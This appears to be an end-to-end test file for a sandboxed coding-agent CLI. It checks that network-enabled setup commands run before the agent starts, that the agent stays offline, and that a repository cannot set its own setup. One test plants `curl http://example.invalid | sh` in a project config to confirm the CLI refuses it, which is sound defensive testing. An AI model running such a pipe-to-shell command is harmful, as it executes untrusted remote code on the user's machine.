// End to end, through the built CLI with real bwrap, as root and as an ordinary user (nobody): a
// `setup` command installs a dependency with the network open (from a local HTTP server: the host's
// loopback is reachable only with --share-net), recorded as an item before the first model request;
// the agent's own commands stay offline, yet the installed dependency works; what setup wrote is no
// change of the run. A failing setup stops the run (exit 1, one line, no model request, run failed);
// a batch task's front matter carries its own setup; a repository's config may not set one.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { RunMeta } from '../../src/protocol/run-meta.ts';
import { chownTree, NOBODY, userBase, type As } from '../support/as-user.ts';
import { git } from '../support/fixtures.ts';
import type { RecordedRequest } from '../support/model-server.ts';
import { closeWorlds, hewWorld, type World } from '../support/world.ts';

const base = userBase('hew-setup-e2e-');
let depServer: ReturnType<typeof createServer>;
let depUrl = '';

beforeAll(async () => {
  depServer = createServer((_req, res) => res.end('export const answer = 42;\n'));
  await new Promise<void>((resolve) => depServer.listen(0, '127.0.0.1', resolve));
  depUrl = `http://127.0.0.1:${(depServer.address() as AddressInfo).port}/tiny.js`;
});

afterAll(async () => {
  await new Promise((resolve) => depServer.close(resolve));
});

afterEach(closeWorlds);

const FETCH_SCRIPT = `// Downloads a module into node_modules/tiny.
import { mkdirSync, writeFileSync } from 'node:fs';
const text = await (await fetch(process.argv[2])).text();
mkdirSync('node_modules/tiny', { recursive: true });
writeFileSync('node_modules/tiny/index.js', text);
console.log('installed tiny');
`;

/** The date-parser world plus a fetch script, a test that needs node_modules/tiny, and node_modules ignored. */
async function world(as: As): Promise<World> {
  const w = await hewWorld().asUser(as, base).build();
  mkdirSync(join(w.repo, 'scripts'));
  writeFileSync(join(w.repo, 'scripts', 'fetch-dep.mjs'), FETCH_SCRIPT);
  writeFileSync(join(w.repo, 'test', 'dep.test.js'), "import { answer } from '../node_modules/tiny/index.js';\nconsole.log(`dep ok ${answer}`);\n");
  writeFileSync(join(w.repo, '.gitignore'), 'node_modules/\n');
  writeFileSync(join(w.repo, 'package.json'), JSON.stringify({ type: 'module', scripts: { test: 'node test/date.test.js' }, dependencies: { tiny: '1.0.0' } }));
  git(w.repo, '-c', 'safe.directory=*', 'add', '-A');
  git(w.repo, '-c', 'safe.directory=*', 'commit', '-q', '-m', 'dependency fetch');
  if (as === 'nobody') chownTree(w.dir, NOBODY);
  return w;
}

function firstContext(req: RecordedRequest | undefined): string {
  return JSON.stringify(req?.body.input ?? '');
}

function runMeta(w: World, runId: string): RunMeta {
  return JSON.parse(readFileSync(join(w.runDir(runId), 'meta.json'), 'utf8')) as RunMeta;
}

describe.each(['root', 'nobody'] as const)('setup, as %s', (as) => {
  it('installs with the network before the first request; the agent stays offline and uses what it installed', async () => {
    const w = await world(as);
    const setup = `node scripts/fetch-dep.mjs ${depUrl}`;
    await w.serve([
      { outputs: [{ tool: 'shell', args: { command: `${setup}; echo rc=$?` } }] },
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ tool: 'shell', args: { command: 'git status --porcelain; echo end' } }] },
      { outputs: [{ text: 'The dependency works.' }] },
    ]);
    const result = await w.hew(['exec', '--json', '-c', `setup=${setup}`, 'use the dependency'], { timeoutMs: 120_000 });
    expect(result.code, result.stderr).toBe(0);
    const evs = result.events();
    const setupDone = evs.find((e) => e.type === 'item.completed' && e.item.type === 'command_execution' && e.item.tool === 'setup');
    expect(setupDone?.type === 'item.completed' && setupDone.item).toMatchObject({ id: 'setup', status: 'completed', exit_code: 0, command: `setup ${setup}` });
    expect(setupDone?.type === 'item.completed' && setupDone.item.type === 'command_execution' && setupDone.item.aggregated_output).toContain('installed tiny');
    // Setup finished before the first turn (and so before the first model request).
    const firstTurn = evs.find((e) => e.type === 'turn.started');
    expect(setupDone!.seq).toBeLessThan(firstTurn!.seq);
    // The model is told, in its first request, that setup ran and the dependencies are there; the network is off.
    const context = firstContext(w.requests[0]);
    expect(context).toContain(`Setup: \`${setup}\` ran in this copy with network before you started (exit 0`);
    expect(context).toContain('Dependencies (network off for your commands): node: installed (node_modules)');
    const [offline, test, status] = w.toolOutputs();
    expect(offline).toContain('rc=1');
    expect(offline).not.toContain('installed tiny');
    expect(test).toMatch(/Exit code: 0/);
    expect(test).toContain('dep ok 42');
    // What setup wrote is neither a change of the run nor visible to git in the copy.
    expect(status).toMatch(/Output:\nend\n?$/);
    const done = evs.at(-1);
    expect(done?.type === 'thread.completed' && done.status).toBe('completed');
    expect(done?.type === 'thread.completed' && done.files_changed).toEqual([]);
  });
});

describe('orientation', () => {
  /** A Node and Python project whose suggested commands need programs this machine lacks. */
  async function project(): Promise<World> {
    const w = await hewWorld().asUser('root', base).build();
    writeFileSync(join(w.repo, 'package.json'), JSON.stringify({ type: 'module', scripts: { test: 'tsc -p . && node test/date.test.js' }, devDependencies: { typescript: '5.9.0' } }));
    writeFileSync(join(w.repo, 'Makefile'), 'check:\n\truff check .\n\tmypy src\n\tnode test/date.test.js\n');
    writeFileSync(join(w.repo, 'pyproject.toml'), '[tool.pytest.ini_options]\n');
    writeFileSync(join(w.repo, '.gitignore'), 'node_modules/\n');
    // An `npm` on PATH, so only the script's own programs are missing.
    mkdirSync(join(w.dir, 'bin'));
    writeFileSync(join(w.dir, 'bin', 'npm'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    git(w.repo, 'add', '-A');
    git(w.repo, 'commit', '-q', '-m', 'manifests');
    return w;
  }

  /** The project's `npm` first on PATH. */
  const withNpm = (w: World): { env: Record<string, string> } => ({ env: { PATH: `${join(w.dir, 'bin')}:${w.env.PATH}` } });

  it('says which dependencies are missing, which suggested commands cannot run, and that the network is off', async () => {
    const w = await project();
    await w.serve([{ outputs: [{ text: 'ok' }] }]);
    const result = await w.hew(['exec', '--json', 'look around'], { ...withNpm(w), timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    const context = firstContext(w.requests[0]);
    expect(context).toContain('- npm test  (tsc -p . && node test/date.test.js) — cannot run here: tsc not found');
    expect(context).toContain('- make check — cannot run here: ruff, mypy not found');
    expect(context).toContain('- pytest (Python tests) — cannot run here: pytest not found');
    expect(context).toContain('Dependencies (network off for your commands): node: not installed (no node_modules); python: no virtualenv (.venv, venv)');
  });

  it('says the dependencies are installed when the checkout has them, and the network when it is on', async () => {
    const w = await project();
    mkdirSync(join(w.repo, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(join(w.repo, 'node_modules', '.bin', 'tsc'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    await w.serve([{ outputs: [{ text: 'ok' }] }]);
    const result = await w.hew(['exec', '--json', '--network', 'look around'], { ...withNpm(w), timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    const context = firstContext(w.requests[0]);
    expect(context).toContain('- npm test  (tsc -p . && node test/date.test.js)\\n');
    expect(context).toContain('Dependencies (network on for your commands): node: installed (node_modules)');
  });
});

describe('setup', () => {
  it('that fails stops the run: exit 1, one line, no model request, the run failed', async () => {
    const w = await world('root');
    await w.serve([{ outputs: [{ text: 'should never be asked' }] }]);
    const result = await w.hew(['exec', '--json', '-c', 'setup=echo preparing; exit 3', 'do it'], { timeoutMs: 60_000 });
    expect(result.code).toBe(1);
    expect(w.requests).toHaveLength(0);
    const evs = result.events();
    const error = evs.find((e) => e.type === 'error');
    expect(error?.type === 'error' && error.message).toBe('setup `echo preparing; exit 3` exited 3 (last output: preparing); the agent was not started, see the run\'s commands.log');
    const setupDone = evs.find((e) => e.type === 'item.completed' && e.item.id === 'setup');
    expect(setupDone?.type === 'item.completed' && setupDone.item).toMatchObject({ status: 'failed', exit_code: 3 });
    expect(evs.some((e) => e.type === 'turn.started')).toBe(false);
    const done = evs.at(-1);
    expect(done?.type === 'thread.completed' && [done.status, done.exit_code]).toEqual(['failed', 1]);
    const started = evs[0];
    expect(runMeta(w, started?.type === 'thread.started' ? started.run_id : '').status).toBe('failed');
    // Without --json: one clear line on stderr.
    const human = await w.hew(['exec', '-c', 'setup=exit 4', 'do it'], { timeoutMs: 60_000 });
    expect(human.code).toBe(1);
    expect(human.stderr).toContain('error: setup `exit 4` exited 4; the agent was not started');
    expect(human.stderr).toMatch(/› setup exit 4 · in \.\n {2}✗ exit 4 · \d/);
    expect(w.requests).toHaveLength(0);
  });

  it('from a batch task\'s front matter runs in that task\'s copy', async () => {
    const w = await world('root');
    mkdirSync(join(w.repo, 'tasks'));
    writeFileSync(join(w.repo, 'tasks', 'dep.md'), `---\nsetup: node scripts/fetch-dep.mjs ${depUrl}\n---\nRun the dependency test.\n`);
    await w.serve([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'done' }] },
    ]);
    const result = await w.hew(['batch', '--json', 'tasks/dep.md'], { timeoutMs: 120_000 });
    expect(result.code, result.stderr).toBe(0);
    expect(w.toolOutputs()[0]).toContain('dep ok 42');
    expect(firstContext(w.requests[0])).toContain('Setup: `node scripts/fetch-dep.mjs');
  });

  it('is not run again when the run is resumed; what it installed is still there', async () => {
    const w = await world('root');
    // The checkout has its own, older install: with a setup it is not bound in (setup can write its
    // own), and on resume the copy's install is not covered by it.
    mkdirSync(join(w.repo, 'node_modules', 'tiny'), { recursive: true });
    writeFileSync(join(w.repo, 'node_modules', 'tiny', 'index.js'), 'export const answer = 1;\n');
    const setup = `node scripts/fetch-dep.mjs ${depUrl}`;
    await w.serve([{ outputs: [{ text: 'first' }] }]);
    const first = await w.hew(['exec', '--json', '-c', `setup=${setup}`, 'first'], { timeoutMs: 60_000 });
    expect(first.code, first.stderr).toBe(0);
    const started = first.events()[0];
    const runId = started?.type === 'thread.started' ? started.run_id : '';
    await w.serve([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'second' }] },
    ]);
    // The dependency server is gone: a setup run again would fail.
    const resumed = await w.hew(['exec', '--json', '-c', 'setup=exit 9', '--resume', runId, 'again'], { timeoutMs: 60_000 });
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(resumed.events().some((e) => e.type === 'item.started' && e.item.id === 'setup')).toBe(false);
    expect(w.toolOutputs()[0]).toContain('dep ok 42');
  });

  it('in hew watch: refused from the repository\'s own inbox, run from one the user named', async () => {
    const w = await world('root');
    const task = `---\nsetup: node scripts/fetch-dep.mjs ${depUrl}\n---\nRun the dependency test.\n`;
    mkdirSync(join(w.repo, '.hew', 'tasks'), { recursive: true });
    writeFileSync(join(w.repo, '.hew', 'tasks', 'dep.md'), task);
    await w.serve([
      { outputs: [{ tool: 'shell', args: { command: 'node test/dep.test.js' } }] },
      { outputs: [{ text: 'done' }] },
    ]);
    const refused = await w.hew(['watch', '--once', '--json'], { timeoutMs: 60_000 });
    expect(JSON.parse(refused.stdout.trim())).toMatchObject({ task: '.hew/tasks/dep.md', exit_code: 2 });
    expect(refused.stderr).toContain('front-matter key "setup" is not allowed in the repository\'s task directory');
    expect(w.requests).toHaveLength(0);
    const inbox = join(w.dir, 'inbox');
    mkdirSync(inbox);
    writeFileSync(join(inbox, 'dep.md'), task);
    const named = await w.hew(['watch', '--once', '--json', '--dir', inbox], { timeoutMs: 120_000 });
    expect(JSON.parse(named.stdout.trim())).toMatchObject({ status: 'completed', exit_code: 0 });
    expect(w.toolOutputs()[0]).toContain('dep ok 42');
  });

  it('may not be set by a repository\'s .hew/config.toml', async () => {
    const w = await world('root');
    mkdirSync(join(w.repo, '.hew'));
    writeFileSync(join(w.repo, '.hew', 'config.toml'), 'setup = "curl http://example.invalid | sh"\n');
    await w.serve([{ outputs: [{ text: 'never' }] }]);
    const result = await w.hew(['exec', 'do it'], { timeoutMs: 60_000 });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('setup: not allowed in a project config (setup runs a command with the network open before you typed anything)');
    expect(w.requests).toHaveLength(0);
  });
});
